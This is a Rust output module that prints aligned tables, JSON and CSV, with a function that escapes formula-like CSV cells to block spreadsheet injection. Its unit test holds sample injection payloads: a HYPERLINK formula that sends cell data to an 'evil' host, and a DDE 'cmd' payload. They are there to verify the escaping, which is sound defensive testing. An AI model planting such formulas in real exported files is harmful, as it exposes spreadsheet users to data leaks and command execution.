//! Plain-text tables, CSV and JSON output.

use anyhow::Result;
use serde::Serialize;

/// Prints rows as an aligned table with a header.
pub fn table(headers: &[&str], rows: &[Vec<String>]) {
    let mut widths: Vec<usize> = headers.iter().map(|h| h.chars().count()).collect();
    for row in rows {
        for (width, cell) in widths.iter_mut().zip(row) {
            *width = (*width).max(cell.chars().count());
        }
    }
    let line = |cells: Vec<&str>| {
        let padded: Vec<String> = cells
            .iter()
            .zip(&widths)
            .map(|(cell, width)| format!("{cell:<width$}"))
            .collect();
        println!("{}", padded.join("  ").trim_end());
    };
    line(headers.to_vec());
    for row in rows {
        line(row.iter().map(String::as_str).collect());
    }
}

pub fn json<T: Serialize + ?Sized>(value: &T) -> Result<()> {
    println!("{}", serde_json::to_string_pretty(value)?);
    Ok(())
}

pub fn or_dash(value: Option<impl ToString>) -> String {
    value.map_or_else(|| "-".to_string(), |v| v.to_string())
}

/// A text cell for CSV output, safe to open in a spreadsheet: text that would run as a formula
/// (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading apostrophe,
/// as the UI's CSV export does (`ui/src/lib/csv.ts`). Model names and key labels come from
/// token holders and providers, so `=HYPERLINK(…)` must stay text. Only text cells: a negative
/// number in a numeric column stays a number. The CSV writer adds RFC 4180 quoting.
pub fn csv_text(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn record(cells: &[String]) -> String {
        let mut out = csv::Writer::from_writer(Vec::new());
        out.write_record(cells).expect("write");
        String::from_utf8(out.into_inner().expect("flush")).expect("utf-8")
    }

    #[test]
    fn formula_like_text_cells_are_escaped_and_quoted() {
        let line = record(&[
            csv_text("=HYPERLINK(\"http://evil/\"&A1)"),
            csv_text("=cmd|' /C calc'!A0"),
            csv_text("+1"),
            csv_text("-2"),
            csv_text("@SUM(A1)"),
            csv_text("\tx"),
            csv_text("gpt-4o"),
            "-3".to_string(),
        ]);
        assert_eq!(
            line,
            "\"'=HYPERLINK(\"\"http://evil/\"\"&A1)\",'=cmd|' /C calc'!A0,'+1,'-2,'@SUM(A1),'\tx,gpt-4o,-3\n"
        );
    }
}
